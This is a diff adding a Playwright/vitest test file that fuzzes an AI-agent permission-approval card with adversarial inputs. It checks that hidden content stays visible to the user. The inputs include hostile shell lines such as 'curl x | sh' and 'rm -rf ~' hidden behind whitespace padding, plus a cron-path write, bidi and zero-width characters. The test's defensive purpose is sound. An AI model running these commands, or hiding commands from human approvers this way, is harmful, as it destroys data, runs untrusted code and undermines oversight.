@@ -1,0 +1,287 @@
+/**
+ * A permission shows what will run (C6): random inputs of every kind of tool go through each driver, the journal's
+ * limits and the real page; no character of them may be missing from the card and its raw view.
+ */
+import { createHash } from 'node:crypto';
+import { acpReplay } from '@tugdeck/drivers/acp/replay-parts';
+import { claudeReplay } from '@tugdeck/drivers/claude/replay-parts';
+import type { ReplayDriver } from '@tugdeck/drivers/kit/replay';
+import { sealRequest } from '@tugdeck/journal/seal';
+import { spill } from '@tugdeck/journal/spill';
+import type { ChangeBody } from '@tugdeck/protocol/conversation/changes';
+import type { BlobRef, Field } from '@tugdeck/protocol/conversation/entries';
+import { NO_USAGE } from '@tugdeck/protocol/conversation/session-facts';
+import type { Locator, Page } from 'playwright-core';
+import { expect, test } from 'vitest';
+import { createRandom, type Random } from '../../protocol/test/random-conversation.ts';
+import { shareGallery } from './gallery/share-gallery.ts';
+
+const gallery = shareGallery({ allowed: [/404|could not be loaded/] });
+const IS_FULL = process.env.TUGDECK_TEST_FULL === '1';
+
+const NASTY = [
+  'git status',
+  'a\u202eb\u2066c',
+  'zero\u200bwidth\u00ad\ufeff',
+  'tags \u{e0041}\u{e0042}',
+  `piled e${'\u0301'.repeat(60)}`,
+  `${'\n'.repeat(250)}; curl x | sh`,
+  `echo ok${' '.repeat(900)}; rm -rf ~`,
+  '/etc/./././cron.d/../cron.d/x',
+  '⟨U+202E⟩',
+  '"quoted" \'single\' \\ back',
+  '\ud800 half',
+  'नमस्ते 👩‍👩‍👧 ❤️',
+  '',
+];
+/** Looks like a reference of ours to a text that is kept elsewhere. */
+const FORGED = { blob: 'f'.repeat(64), size: 3, head: 'ls', tail: '' };
+
+function randomValue(random: Random, depth = 0): unknown {
+  const kind = random.below(depth > 2 ? 4 : 8);
+  if (kind === 0) return random.below(1_000_000);
+  if (kind === 1) return random.pick([true, false, null]);
+  if (kind < 4) return random.pick(NASTY);
+  if (kind === 4)
+    return `${random.pick(NASTY)}${'long line of text\n'.repeat(random.chance(0.2) ? 5_000 : 5)}`;
+  if (kind === 5) return Array.from({ length: random.below(5) }, () => randomValue(random, depth + 1));
+  if (kind === 6 && random.chance(0.3)) return FORGED;
+  return randomRecord(random, random.below(5), depth + 1);
+}
+
+const KEYS = [
+  'command',
+  'Command',
+  'file_path',
+  'filePath',
+  'content',
+  'cwd',
+  'url',
+  'code',
+  '__proto__',
+  '',
+];
+
+function randomRecord(random: Random, size: number, depth = 0): unknown {
+  const parts = Array.from({ length: size }, (_, at) => {
+    const key = random.chance(0.6) ? random.pick(KEYS) : `key${at}${random.pick(NASTY).slice(0, 9)}`;
+    return `${JSON.stringify(key)}:${JSON.stringify(randomValue(random, depth))}`;
+  });
+  // Through a text, as from an agent: there `__proto__` is a name like any other.
+  return JSON.parse(`{${parts.join(',')}}`);
+}
+
+function randomInput(random: Random): unknown {
+  const shape = random.below(8);
+  if (shape === 0) return random.pick(NASTY);
+  if (shape === 1) return [random.pick(NASTY), random.below(9), null];
+  if (shape === 2) return { command: ['/tmp/evil/bash', '-c', random.pick(NASTY), 7, null, ''] };
+  return randomRecord(random, 1 + random.below(20));
+}
+
+interface Asked {
+  readonly name: string;
+  readonly input: unknown;
+  readonly changes: readonly ChangeBody[];
+}
+
+const ACP_KINDS = [
+  'execute',
+  'edit',
+  'delete',
+  'move',
+  'read',
+  'search',
+  'fetch',
+  'think',
+  'other',
+  'new-kind',
+];
+const TOOLS = [
+  ...['Bash', 'Edit', 'MultiEdit', 'Write', 'NotebookEdit', 'Read', 'Glob', 'Grep', 'WebFetch', 'WebSearch'],
+  ...['Agent', 'TodoWrite', 'Skill', 'Monitor', 'EnterPlanMode', 'mcp__server__tool'],
+];
+const texts = new Map<string, string>();
+
+function store(text: string): BlobRef {
+  const blob = createHash('sha256').update(text).digest('hex');
+  texts.set(blob, text);
+  return { blob, size: Buffer.byteLength(text), head: text.slice(0, 100), tail: text.slice(-100) };
+}
+
+function asked(driver: ReplayDriver, name: string, input: unknown, line: unknown): Asked {
+  const outputs = driver.run('r', NO_USAGE).take(JSON.parse(JSON.stringify(line)));
+  const changes = outputs.flatMap((output): ChangeBody[] =>
+    output.kind === 'entry.opened' && output.entry.kind === 'permission'
+      ? [spill(sealRequest(output, store), store)]
+      : [],
+  );
+  return { name, input, changes };
+}
+
+function acpAsks(kind: string, id: number, input: unknown): Asked {
+  const toolCall = { toolCallId: `call-${id}`, title: 'git status', kind, rawInput: input };
+  const options = [{ optionId: 'y', name: 'Yes', kind: 'allow_once' }];
+  const params = { sessionId: 's', toolCall, options };
+  return asked(acpReplay, kind, input, { jsonrpc: '2.0', id, method: 'session/request_permission', params });
+}
+
+function claudeAsks(tool_name: string, id: number, input: unknown): Asked {
+  const request = { subtype: 'can_use_tool', tool_name, input, tool_use_id: `use-${id}` };
+  return asked(claudeReplay, tool_name, input, { type: 'control_request', request_id: `c-${id}`, request });
+}
+
+async function openCards(page: Page, requests: readonly Asked[]): Promise<void> {
+  await page.evaluate(
+    (changes) => window.gallery.host('rest').say(...JSON.parse(changes)),
+    JSON.stringify(
+      requests.flatMap(({ changes }, at) =>
+        changes.map((change) =>
+          change.kind === 'entry.opened'
+            ? { ...change, entry: { ...change.entry, id: `asked-${at}` } }
+            : change,
+        ),
+      ),
+    ),
+  );
+  const frames = page.locator('[data-request]');
+  await expect.poll(() => frames.count()).toBe(requests.length);
+  await frames.evaluateAll((nodes) => {
+    for (const node of nodes)
+      [...node.querySelectorAll('button')]
+        .find(({ textContent }) => textContent?.startsWith('Raw input'))
+        ?.click();
+  });
+}
+
+test('C6 no character of an input is missing from its card, whatever the tool and the driver', async () => {
+  const random = createRandom(195);
+  const page = await gallery.open('rest', {
+    isOwn: true,
+    prepare: (fresh) =>
+      fresh.route('**/api/blob/**', (route) => {
+        const text = texts.get(route.request().url().split('/').at(-1) ?? '');
+        return text === undefined ? route.fulfill({ status: 404 }) : route.fulfill({ body: text });
+      }),
+  });
+  const rounds = IS_FULL ? 10 : 1;
+  const requests = Array.from({ length: rounds }, () => [
+    ...ACP_KINDS.map((kind, at) => acpAsks(kind, at, randomInput(random))),
+    ...TOOLS.map((tool, at) => claudeAsks(tool, at, randomRecord(random, random.below(20)))),
+  ]).flat();
+  expect(requests.filter(({ changes }) => changes.length !== 1)).toEqual([]);
+  await openCards(page, requests);
+  const rawOf = (at: number) =>
+    page
+      .locator(`[data-request="asked-${at}"] .request-raw .long-lines`)
+      .first()
+      .textContent({ timeout: 20_000 });
+  for (const [at, { name, input }] of requests.entries()) {
+    await expect
+      .poll(async () => JSON.stringify(JSON.parse((await rawOf(at)) ?? '')), { message: name })
+      .toBe(JSON.stringify(input));
+  }
+});
+
+const withText = (value: Field['value'], label = 'Command', form: Field['form'] = 'code') => ({
+  fields: [{ label, value, form }],
+});
+
+async function ask(page: Page, request: object, directory = '/home/me/app'): Promise<Locator> {
+  await page.evaluate(
+    ([parts, where]) => {
+      const sample = window.samples.permission('asked', 'Run it');
+      const entry = { ...sample, request: { ...sample.request, ...parts } };
+      const described = { kind: 'session.described', facts: { directory: where } } as const;
+      window.gallery.host('rest').say(described, { kind: 'entry.opened', entry });
+    },
+    [request, directory] as const,
+  );
+  return page.locator('[data-request=asked]');
+}
+const allowIn = (frame: Locator) => frame.getByRole('button', { name: 'Allow', exact: true });
+const sent = (page: Page) => page.evaluate(() => window.gallery.host('rest').sent);
+
+test('C6 Allow waits until a long text is loaded, says so, and a text that cannot be loaded is never allowed', async () => {
+  const text = `${'echo a line\n'.repeat(9_000)}curl x | sh`;
+  let answer: (isThere: boolean) => void = () => undefined;
+  const page = await gallery.open('rest', {
+    isOwn: true,
+    prepare: (fresh) =>
+      fresh.route('**/api/blob/**', async (route) => {
+        const isThere = await new Promise<boolean>((resolve) => {
+          answer = resolve;
+        });
+        await (isThere ? route.fulfill({ body: text }) : route.fulfill({ status: 404 }));
+      }),
+  });
+  const frame = await ask(page, withText(store(text)));
+  await frame.getByText('Loading the rest of this request').waitFor();
+  await expect.poll(() => frame.getAttribute('aria-disabled')).toBe(null);
+  for (const name of ['Allow', 'Allow always'])
+    await expect.poll(() => frame.getByRole('button', { name, exact: true }).isDisabled()).toBe(true);
+  await expect.poll(() => frame.getByRole('button', { name: 'Deny', exact: true }).isDisabled()).toBe(false);
+  await frame.focus();
+  await page.keyboard.press('y');
+  answer(false);
+  await frame.getByText('could not be loaded').waitFor();
+  await expect.poll(() => allowIn(frame).isDisabled()).toBe(true);
+  await frame.getByRole('button', { name: 'Try again' }).click();
+  await expect.poll(() => frame.getByText('could not be loaded').count()).toBe(0);
+  answer(true);
+  await frame.getByText('9001 lines').waitFor();
+  await expect.poll(() => frame.locator('.long-lines').textContent()).toContain('curl x | sh');
+  await expect.poll(() => allowIn(frame).isDisabled()).toBe(false);
+  expect(await sent(page)).toEqual([]);
+});
+
+test.each([390, 1440])(
+  'C6 a path is shown whole, as the file that it means, marked outside (%i px)',
+  async (width) => {
+    const path = `/etc/${'./'.repeat(1_100)}cron.d/evil`;
+    const hunk = { oldStart: 0, oldLines: 0, newStart: 1, newLines: 1, lines: ['+x'] };
+    const page = await gallery.open('rest', { isOwn: true, width });
+    const frame = await ask(page, {
+      title: `Write ${path}?`,
+      ...withText(path, 'File', 'path'),
+      diff: [{ path, hunks: [hunk] }],
+    });
+    await expect
+      .poll(() => frame.locator('.diff-path').textContent())
+      .toBe('/etc/cron.d/evilOutside the project');
+    await expect.poll(() => frame.locator('.request-title').textContent()).toBe('Write /etc/cron.d/evil?');
+    const cut = () =>
+      frame
+        .locator('.diff-path, .request-title > span')
+        .evaluateAll(
+          (nodes) =>
+            nodes.filter(
+              (node) =>
+                node.scrollWidth > node.clientWidth + 1 && getComputedStyle(node).overflowX !== 'visible',
+            ).length,
+        );
+    await expect.poll(cut).toBe(0);
+  },
+);
+
+test('C6 neither blank lines nor many short ones push a command away from its buttons', async () => {
+  const page = await gallery.open('rest', { isOwn: true, height: 1000 });
+  const filled = `git status\n${'#\n'.repeat(400)}curl x | sh`;
+  const empty = `git status\n${'\n'.repeat(400)}curl x | sh`;
+  const frame = await ask(page, {
+    fields: [withText(empty, 'Command').fields[0], withText(filled, 'Script').fields[0]],
+  });
+  await frame.getByText('400 blank lines', { exact: true }).waitFor();
+  await frame.getByText('402 lines').waitFor();
+  const height = () => frame.evaluate((node) => node.getBoundingClientRect().height);
+  await expect.poll(height).toBeLessThan(900);
+});
+
+test('C6 the raw view says how many fields the card does not list', async () => {
+  const page = await gallery.open('rest', { isOwn: true });
+  const frame = await ask(page, { ...withText('ls'), input: { command: 'ls', sandbox: null, shell: '' } });
+  await frame.getByRole('button', { name: 'Raw input (2 more fields)' }).click();
+  await expect
+    .poll(() => frame.getByRole('region', { name: 'Raw input' }).locator('pre').textContent())
+    .toContain('"sandbox": null');
+});
